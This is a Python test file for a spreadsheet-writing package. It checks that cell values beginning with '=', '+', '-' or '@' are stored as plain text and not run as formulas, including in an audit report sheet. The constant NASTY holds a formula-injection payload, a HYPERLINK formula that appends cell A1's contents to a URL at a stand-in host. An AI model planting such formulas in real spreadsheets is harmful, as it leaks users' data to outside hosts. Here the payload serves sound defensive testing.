"""Texts written to xlsx stay texts: a name starting with = is shown as typed,
never run as a formula, and carries no visible quote."""

from __future__ import annotations

from dataclasses import replace

from openpyxl import Workbook, load_workbook

from jixiao import samples, templates
from jixiao.domain.audit import audit
from jixiao.readers import read_path
from jixiao.writers.cells import append_row
from jixiao.writers.findings import write_xlsx

NASTY = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'


def test_append_row_writes_texts_as_strings_and_numbers_as_numbers(tmp_path):
    book = Workbook()
    append_row(book.active, [NASTY, "+1", "-2", "@x", "平常", 3, None])
    book.save(tmp_path / "a.xlsx")
    cells = next(load_workbook(tmp_path / "a.xlsx").active.iter_rows())
    assert [c.value for c in cells[:6]] == [NASTY, "+1", "-2", "@x", "平常", 3]
    assert [c.data_type for c in cells[:6]] == ["s", "s", "s", "s", "s", "n"]


def test_the_check_report_keeps_a_formula_looking_name_as_text(tmp_path):
    form = read_path(samples.paths()[0])[0]
    form = replace(form, project=replace(form.project, name=NASTY))
    found = audit(form, templates.load(form.template))
    assert found, "the report needs at least one finding to hold the name"
    write_xlsx([(form, found)], tmp_path / "r.xlsx")
    names = [row[2] for row in load_workbook(tmp_path / "r.xlsx")["审核意见"].iter_rows(min_row=2)]
    assert names and all(c.value == NASTY and c.data_type == "s" for c in names)
